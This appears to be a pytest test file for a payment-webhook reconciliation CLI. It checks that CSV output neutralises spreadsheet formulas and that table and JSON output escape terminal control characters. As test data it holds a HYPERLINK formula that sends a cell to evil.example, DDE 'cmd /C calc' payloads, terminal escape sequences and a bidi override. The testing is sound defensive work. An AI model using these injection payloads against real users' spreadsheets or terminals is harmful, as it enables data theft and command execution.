"""Identifiers from webhook bodies in ``payhooks reconcile``: neutralised in CSV, escaped in
the table, exact in JSON Lines.

The hostile identifiers arrive the way an attacker with a merchant account would send them: as
real notifications, signed with the receiver's secret, through the app's endpoint.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from payhooks.receiver.cli.common import (
    FORMULA_TRIGGERS,
    csv_field,
    terminal_json,
    terminal_text,
)
from payhooks.receiver.cli.reports import NUMERIC_FIELDS, REPORT_FIELDS, write_report
from payhooks.receiver.visible_text import visible
from payhooks.storage import ReconciliationRow, ReconciliationState
from tests.support.app import BodyFactory, SignFunction
from tests.support.cli import clean_env, json_lines, run

__all__ = ["clean_env"]

pytestmark = pytest.mark.usefixtures("clean_env")

#: Identifiers a spreadsheet would run as formulas (OWASP's list of first characters).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

#: Identifiers that would drive a terminal or draw a row of their own in the table.
TERMINAL = [
    "\x1b[2J\x1b[31mpaid\x1b[0m",
    "order-9\norder-1  transaction  paid  CNY  25.00  25.00  1  ll-1",
    "order-\u202e1-gnp",
    "back\\slash\x07bell\x7f",
    "line\u2028separator\x85next",
]

HOSTILE = FORMULAS + TERMINAL


@pytest.fixture
def hostile_ledger(
    client: FlaskClient, sign: SignFunction, make_body: BodyFactory, database: Path
) -> Path:
    """Every hostile identifier as an unexpected payment, each with a hostile transaction id
    too, received as signed notifications through the endpoint."""
    for number, identifier in enumerate(HOSTILE):
        body = make_body(external_identifier=identifier, transaction_id=f"=1+{number}")
        response = client.post("/payhooks/notifications", data=body, headers=sign(body))
        assert response.status_code == 200, response.get_json()
    return database


def _reconcile(database: Path, report_format: str) -> str:
    result = run(["reconcile", "--format", report_format, "--database", str(database)])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_neutralises_formula_cells_and_a_csv_reader_gets_them_back_quoted(
    hostile_ledger: Path,
) -> None:
    text = _reconcile(hostile_ledger, "csv")

    rows = list(csv.DictReader(io.StringIO(text)))
    identifiers = {row["external_identifier"] for row in rows}
    # A tab or a carriage return is written as its escape first, which no spreadsheet runs.
    assert identifiers == {"'" + value for value in FORMULAS[:4]} | {"\\t=1+1", "\\r=1+1"} | {
        visible(value) for value in TERMINAL
    }
    assert {row["transaction_ids"] for row in rows} == {f"'=1+{n}" for n in range(len(HOSTILE))}
    for row in rows:
        for name in REPORT_FIELDS:
            if name not in NUMERIC_FIELDS:
                assert row[name][:1] not in FORMULA_TRIGGERS, (name, row[name])
    # OWASP: the neutralised cell is also quoted, so no spreadsheet splits or trims it.
    assert '"\'-2+3",' in text
    # Nothing that drives a terminal or reorders a line reaches the file raw (a CSV is
    # read with cat and in editors too).
    assert not any(char in text for char in "\x1b\x07\x7f\x85\t\u2028\u202e")
    assert text.count("\n") == 1 + len(HOSTILE)
    assert text.startswith(",".join(REPORT_FIELDS) + "\n")


def test_the_table_shows_control_characters_as_escapes_one_line_per_row(
    hostile_ledger: Path,
) -> None:
    text = _reconcile(hostile_ledger, "table")

    table, totals = text.split("\n\n")
    assert not any(char in text for char in "\x1b\x07\x7f\x85\r\t\u2028\u202e")
    assert len(table.splitlines()) == 1 + len(HOSTILE)
    assert "\\x1b[2J\\x1b[31mpaid\\x1b[0m" in table
    assert "order-9\\norder-1  transaction" in table
    assert "order-\\u202e1-gnp" in table
    assert "back\\\\slash\\x07bell\\x7f" in table
    assert "line\\u2028separator\\x85next" in table
    assert totals.splitlines()[1].split()[:3] == ["CNY", "unexpected", str(len(HOSTILE))]


def test_json_lines_keep_every_identifier_exact_one_record_per_line_and_inert(
    hostile_ledger: Path,
) -> None:
    text = _reconcile(hostile_ledger, "json")

    # splitlines() breaks on U+2028, U+0085 and more: each record must still be one line.
    records = json_lines(text)
    assert len(text.splitlines()) == len(HOSTILE)
    assert {record["external_identifier"] for record in records} == set(HOSTILE)
    # Nothing a terminal obeys or reorders by reaches it raw: escapes and bidi controls are
    # JSON escapes, decoded exactly above.
    assert not any(char in text for char in "\x1b\x07\x7f\x85\u2028\u202e")
    assert "order-\\u202e1-gnp" in text


@pytest.mark.parametrize(
    ("value", "text", "written"),
    [
        ("-5.00", False, "-5.00"),
        ("-5.00", True, '"\'-5.00"'),
        ("=1+1", True, '"\'=1+1"'),
        ('@a"b', True, '"\'@a""b"'),
        ("a,b", True, '"a,b"'),
        ("a\nb", False, '"a\nb"'),
        ("a\nb", True, "a\\nb"),
        ("\t=1+1", True, "\\t=1+1"),
        ("order-\u202e1-gnp", True, "order-\\u202e1-gnp"),
        ("\x1b[2Jpaid", True, "\\x1b[2Jpaid"),
        ("back\\slash", True, "back\\\\slash"),
        ("=\u202e1", True, '"\'=\\u202e1"'),
        ("order-1", True, "order-1"),
        ("", True, ""),
        (None, True, ""),
    ],
    ids=repr,
)
def test_csv_field_neutralises_text_only(value: str | None, text: bool, written: str) -> None:
    assert csv_field(value, text=text) == written


@given(st.text())
def test_a_text_cell_is_one_inert_line_that_no_spreadsheet_runs(value: str) -> None:
    written = csv_field(value, text=True)

    rows = list(csv.reader(io.StringIO(written), strict=True))
    (read,) = rows[0] if rows else [""]
    assert not any(char in written for char in "\n\r\t\x1b\x85\u2028\u2029\u202e\u2066")
    assert read[:1] not in FORMULA_TRIGGERS
    shown = visible(value)
    assert read == ("'" + shown if shown[:1] in FORMULA_TRIGGERS else shown)


def test_a_negative_amount_stays_a_number_in_csv() -> None:
    """The ledger stores no negative amount today; should a report ever carry one (a net of
    refunds), it is a number to add up, and the CSV leaves it unquoted and unprefixed."""
    row = ReconciliationRow(
        external_identifier="-order",
        kind=None,
        state=ReconciliationState.UNEXPECTED,
        currency="CNY",
        expected_amount_minor=None,
        received_currency="CNY",
        received_amount_minor=-500,
        opened_at=datetime(2026, 11, 21, tzinfo=UTC),
        lifecycle_state=None,
        periods_paid=1,
        transaction_ids=("ll-1",),
        unknown_outcomes=0,
        last_outcome_at=None,
    )
    out = io.StringIO()

    write_report([row], out, "csv")

    line = out.getvalue().splitlines()[1]
    assert line.startswith('"\'-order",,unexpected,CNY,,CNY,-5.00,1,ll-1,')


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("order-1", "order-1"),
        ("订单 1", "订单 1"),
        ("a\x00b", "a\\x00b"),
        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
        ("a\r\nb", "a\\r\\nb"),
        ("\u2066x\u2069", "\\u2066x\\u2069"),
        ("\\x1b", "\\\\x1b"),
    ],
    ids=repr,
)
def test_terminal_text_escapes_controls_visibly_and_unambiguously(value: str, shown: str) -> None:
    assert terminal_text(value) == shown


def test_terminal_json_escapes_the_line_breaks_json_leaves_raw() -> None:
    line = terminal_json({"id": "a\u2028b\u2029c\x85d\ne"})

    assert line == '{"id":"a\\u2028b\\u2029c\\u0085d\\ne"}'
    assert line.splitlines() == [line]


@pytest.mark.parametrize("indent", [None, 2])
def test_terminal_json_shows_raw_no_character_terminal_text_escapes_and_decodes_exactly(
    indent: int | None,
) -> None:
    """Every character of the Basic Multilingual Plane that terminal_text would escape (but the
    backslash, which JSON escapes its own way) never reaches the terminal raw from
    terminal_json; every other character is written as it is, and each decodes back."""
    for code in range(0x10000):
        char = chr(code)
        if 0xD800 <= code <= 0xDFFF:
            continue  # lone surrogates: not text
        document = terminal_json({"k": [char]}, indent=indent)
        assert json.loads(document) == {"k": [char]}
        unsafe = terminal_text(char) != char
        assert (char in document) is (
            not unsafe or char == "\\" or (char == "\n" and bool(indent))
        ), hex(code)
